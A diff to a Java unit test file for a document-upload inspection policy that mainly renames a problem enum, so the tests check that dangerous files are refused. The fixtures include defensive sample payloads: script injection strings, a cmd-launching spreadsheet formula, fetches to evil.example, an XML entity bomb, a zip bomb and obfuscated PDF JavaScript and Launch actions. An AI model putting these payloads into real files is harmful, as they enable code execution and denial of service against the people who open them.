@@ -7,6 +7,7 @@ import java.nio.charset.Charset;
 import java.nio.charset.StandardCharsets;
 import java.util.Map;
 import java.util.Random;
+import org.chengxin.document.DocumentProblem;
 import org.chengxin.shared.ProblemException;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -48,12 +49,12 @@ class InspectionPolicyTest {
 
     @Test
     void aFileThatLiesAboutItsTypeIsRefused() {
-        refused(AttachmentProblem.TYPE_DIFFERS, "photo.jpg", Files.png());
-        refused(AttachmentProblem.TYPE_DIFFERS, "photo.jpg", Files.pdf(""));
-        refused(AttachmentProblem.TYPE_DIFFERS, "table.xlsx", Files.docx());
-        refused(AttachmentProblem.TYPE_DIFFERS, "report.pdf", Files.text("<html><script>alert(1)</script>"));
-        refused(AttachmentProblem.TYPE_DIFFERS, "note.txt", Files.jpeg());
-        refused(AttachmentProblem.TYPE_REFUSED, "photo.jpg", Files.latin("MZ\u0090\u0000\u0003\u0000"));
+        refused(DocumentProblem.TYPE_DIFFERS, "photo.jpg", Files.png());
+        refused(DocumentProblem.TYPE_DIFFERS, "photo.jpg", Files.pdf(""));
+        refused(DocumentProblem.TYPE_DIFFERS, "table.xlsx", Files.docx());
+        refused(DocumentProblem.TYPE_DIFFERS, "report.pdf", Files.text("<html><script>alert(1)</script>"));
+        refused(DocumentProblem.TYPE_DIFFERS, "note.txt", Files.jpeg());
+        refused(DocumentProblem.TYPE_REFUSED, "photo.jpg", Files.latin("MZ\u0090\u0000\u0003\u0000"));
     }
 
     @ParameterizedTest
@@ -73,7 +74,7 @@ class InspectionPolicyTest {
                 "a.pdf.exe"
             })
     void typesThatCouldRunAreNotTakenWhateverTheyHold(String name) {
-        refused(AttachmentProblem.TYPE_REFUSED, name, Files.pdf(""));
+        refused(DocumentProblem.TYPE_REFUSED, name, Files.pdf(""));
     }
 
     @ParameterizedTest
@@ -88,7 +89,7 @@ class InspectionPolicyTest {
                 "click javascript:alert(1)"
             })
     void textThatIsMoreThanTextIsRefused(String text) {
-        refused(AttachmentProblem.ACTIVE, "note.txt", Files.text(text));
+        refused(DocumentProblem.ACTIVE, "note.txt", Files.text(text));
     }
 
     @ParameterizedTest
@@ -101,7 +102,7 @@ class InspectionPolicyTest {
                 "word/embeddings/run.exe"
             })
     void anOfficeFileWithMacrosOrControlsIsRefused(String part) {
-        refused(AttachmentProblem.ACTIVE, "contract.docx", Files.docxWith(part, new byte[10]));
+        refused(DocumentProblem.ACTIVE, "contract.docx", Files.docxWith(part, new byte[10]));
     }
 
     @Test
@@ -116,7 +117,7 @@ class InspectionPolicyTest {
         String relation =
                 "<Relationships><Relationship Id=\"1\" Type=\"http://x/%s\" Target=\"http://evil.example/\" TargetMode=\"External\"/></Relationships>";
         refused(
-                AttachmentProblem.ACTIVE,
+                DocumentProblem.ACTIVE,
                 "a.docx",
                 Files.docxWith("word/_rels/settings.xml.rels", Files.text(relation.formatted("attachedTemplate"))));
         assertThat(InspectionPolicy.accept(
@@ -135,20 +136,20 @@ class InspectionPolicyTest {
     void aDocumentThatHidesWhatItFetchesIsRefused(String relation) {
         String relations = "<Relationships><Relationship Id='1' " + relation + "/></Relationships>";
         refused(
-                AttachmentProblem.ACTIVE,
+                DocumentProblem.ACTIVE,
                 "a.docx",
                 Files.docxWith("word/_rels/settings.xml.rels", Files.text(relations)));
         refused(
-                AttachmentProblem.ACTIVE,
+                DocumentProblem.ACTIVE,
                 "a.docx",
                 Files.docxWith("word/_rels/settings.xml.rels", relations.getBytes(StandardCharsets.UTF_16)));
     }
 
     @Test
     void aDocumentWhosePartsAreNoXmlOrBringADefinitionOfTheirOwnIsRefused() {
-        refused(AttachmentProblem.TYPE_REFUSED, "a.docx", Files.docxWith("_rels/b.rels", Files.text("<Relation")));
+        refused(DocumentProblem.TYPE_REFUSED, "a.docx", Files.docxWith("_rels/b.rels", Files.text("<Relation")));
         refused(
-                AttachmentProblem.TYPE_REFUSED,
+                DocumentProblem.TYPE_REFUSED,
                 "a.docx",
                 Files.docxWith(
                         "_rels/b.rels",
@@ -161,19 +162,19 @@ class InspectionPolicyTest {
         parts.put(
                 "[Content_Types].xml",
                 Files.text("<Types>application/vnd.ms-word.document.macroEnabled.main+xml</Types>"));
-        refused(AttachmentProblem.ACTIVE, "a.docx", Files.zip(parts));
+        refused(DocumentProblem.ACTIVE, "a.docx", Files.zip(parts));
         parts.put(
                 "[Content_Types].xml",
                 Files.text(
                         "<Types><Override PartName='/a' ContentType='application/vnd.ms-office.vba&#80;roject'/></Types>"));
-        refused(AttachmentProblem.ACTIVE, "a.docx", Files.zip(parts));
+        refused(DocumentProblem.ACTIVE, "a.docx", Files.zip(parts));
     }
 
     @Test
     void aDocumentTypeInAnyPartIsRefused() {
         byte[] bomb = Files.text("<!DOCTYPE d [<!ENTITY a \"aa\"><!ENTITY b \"&a;&a;\">]><d>&b;</d>");
         for (String part : java.util.List.of("word/document.xml", "word/comments.xml", "docProps/core.xml")) {
-            refused(AttachmentProblem.TYPE_REFUSED, "a.docx", Files.docxWith(part, bomb));
+            refused(DocumentProblem.TYPE_REFUSED, "a.docx", Files.docxWith(part, bomb));
         }
     }
 
@@ -185,7 +186,7 @@ class InspectionPolicyTest {
                         + "<w:r><w:instrText>E excel x</w:instrText></w:r>",
                 "<w:instrText> INCLUDETEXT \"http://evil.example/x\"</w:instrText>")) {
             byte[] document = Files.text("<w:document xmlns:w='urn:w'>" + field + "</w:document>");
-            refused(AttachmentProblem.ACTIVE, "a.docx", Files.docxWith("word/document.xml", document));
+            refused(DocumentProblem.ACTIVE, "a.docx", Files.docxWith("word/document.xml", document));
         }
         byte[] dated = Files.text("<w:document xmlns:w='urn:w'><w:instrText> DATE \\@ yyyy</w:instrText>"
                 + "<w:t>link dde import</w:t></w:document>");
@@ -197,7 +198,7 @@ class InspectionPolicyTest {
     void aFormulaThatStartsAProgramOrFetchesIsRefused() {
         for (String formula : java.util.List.of("cmd|'/c calc'!A0", "WEBSERVICE(&quot;http://evil.example&quot;)")) {
             byte[] sheet = Files.text("<worksheet><c><f>" + formula + "</f></c></worksheet>");
-            refused(AttachmentProblem.ACTIVE, "a.xlsx", Files.xlsxWith("xl/worksheets/sheet1.xml", sheet));
+            refused(DocumentProblem.ACTIVE, "a.xlsx", Files.xlsxWith("xl/worksheets/sheet1.xml", sheet));
         }
         byte[] honest = Files.text("<worksheet><c><f>SUM(Sheet2!A1:A9)</f></c></worksheet>");
         assertThat(InspectionPolicy.accept("a.xlsx", Files.xlsxWith("xl/worksheets/sheet1.xml", honest)))
@@ -208,42 +209,36 @@ class InspectionPolicyTest {
     void aZipBombIsRefusedBeforeItFillsAnything() {
         byte[] bomb = Files.docxWith("word/media/image1.png", new byte[201 << 20]);
         assertThat(bomb.length).isLessThan(1 << 20);
-        refused(AttachmentProblem.BOMB, "a.docx", bomb);
+        refused(DocumentProblem.BOMB, "a.docx", bomb);
     }
 
     @Test
     void aPdfWithAProgramIsRefusedHoweverItIsWritten() {
-        refused(AttachmentProblem.ACTIVE, "a.pdf", Files.pdf("3 0 obj <</S/JavaScript/JS(app.alert(1))>> endobj"));
-        refused(AttachmentProblem.ACTIVE, "a.pdf", Files.pdf("3 0 obj <</S/J#61vaScr#69pt/JS(x)>> endobj"));
-        refused(AttachmentProblem.ACTIVE, "a.pdf", Files.pdf("3 0 obj <</S /Launch /F(cmd.exe)>> endobj"));
-        refused(AttachmentProblem.ACTIVE, "a.pdf", Files.packedPdf("<</S/JavaScript/JS(x)>>"));
-        refused(AttachmentProblem.LOCKED, "a.pdf", Files.pdf("trailer <</Encrypt 5 0 R>>"));
-        refused(
-                AttachmentProblem.LOCKED,
-                "a.pdf",
-                Files.pdf("2 0 obj <</Type/ObjStm>>\nstream\nnot packed\nendstream"));
-        refused(AttachmentProblem.BOMB, "a.pdf", Files.packedPdf(" ".repeat(9 << 20)));
+        refused(DocumentProblem.ACTIVE, "a.pdf", Files.pdf("3 0 obj <</S/JavaScript/JS(app.alert(1))>> endobj"));
+        refused(DocumentProblem.ACTIVE, "a.pdf", Files.pdf("3 0 obj <</S/J#61vaScr#69pt/JS(x)>> endobj"));
+        refused(DocumentProblem.ACTIVE, "a.pdf", Files.pdf("3 0 obj <</S /Launch /F(cmd.exe)>> endobj"));
+        refused(DocumentProblem.ACTIVE, "a.pdf", Files.packedPdf("<</S/JavaScript/JS(x)>>"));
+        refused(DocumentProblem.LOCKED, "a.pdf", Files.pdf("trailer <</Encrypt 5 0 R>>"));
+        refused(DocumentProblem.LOCKED, "a.pdf", Files.pdf("2 0 obj <</Type/ObjStm>>\nstream\nnot packed\nendstream"));
+        refused(DocumentProblem.BOMB, "a.pdf", Files.packedPdf(" ".repeat(9 << 20)));
     }
 
     @Test
     void aPdfWhoseObjectsWerePackedTwiceOrFarFromTheirNameIsRefused() {
         byte[] program = Files.latin("3 0 <</S/JavaScript/JS(x)>>");
         refused(
-                AttachmentProblem.LOCKED,
+                DocumentProblem.LOCKED,
                 "a.pdf",
                 Files.pdfWithStream(
                         "<</Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]>>",
                         Files.deflated(Files.deflated(program))));
         refused(
-                AttachmentProblem.ACTIVE,
+                DocumentProblem.ACTIVE,
                 "a.pdf",
                 Files.pdfWithStream(
                         "<</Type/ObjStm/N 1/First 4" + " ".repeat(5_000) + "/Filter/FlateDecode>>",
                         Files.deflated(program)));
-        refused(
-                AttachmentProblem.LOCKED,
-                "a.pdf",
-                Files.pdfWithStream("<</Type/ObjStm>>", Files.deflated(new byte[0])));
+        refused(DocumentProblem.LOCKED, "a.pdf", Files.pdfWithStream("<</Type/ObjStm>>", Files.deflated(new byte[0])));
     }
 
     /** What takes its time by the square of its length does not end within a day here. */
@@ -255,14 +250,14 @@ class InspectionPolicyTest {
         assertThat(InspectionPolicy.accept("a.pdf", Files.latin(packed + "/ObjStm".repeat(1_000_000) + packed)))
                 .isEqualTo(FileType.PDF);
         refused(
-                AttachmentProblem.TYPE_REFUSED,
+                DocumentProblem.TYPE_REFUSED,
                 "a.docx",
                 Files.docxWith("word/_rels/a.rels", Files.text("<Relationship".repeat(80_000))));
     }
 
     @Test
     void anEmptyFileIsRefused() {
-        refused(AttachmentProblem.EMPTY, "a.txt", new byte[0]);
+        refused(DocumentProblem.EMPTY, "a.txt", new byte[0]);
     }
 
     @Test
@@ -281,12 +276,12 @@ class InspectionPolicyTest {
             try {
                 InspectionPolicy.accept(names[run % names.length], content);
             } catch (ProblemException refused) {
-                assertThat(refused.problem()).as("seed " + seed).isInstanceOf(AttachmentProblem.class);
+                assertThat(refused.problem()).as("seed " + seed).isInstanceOf(DocumentProblem.class);
             }
         }
     }
 
-    private static void refused(AttachmentProblem problem, String name, byte[] content) {
+    private static void refused(DocumentProblem problem, String name, byte[] content) {
         assertThatThrownBy(() -> InspectionPolicy.accept(name, content))
                 .as(name)
                 .isInstanceOf(ProblemException.class)
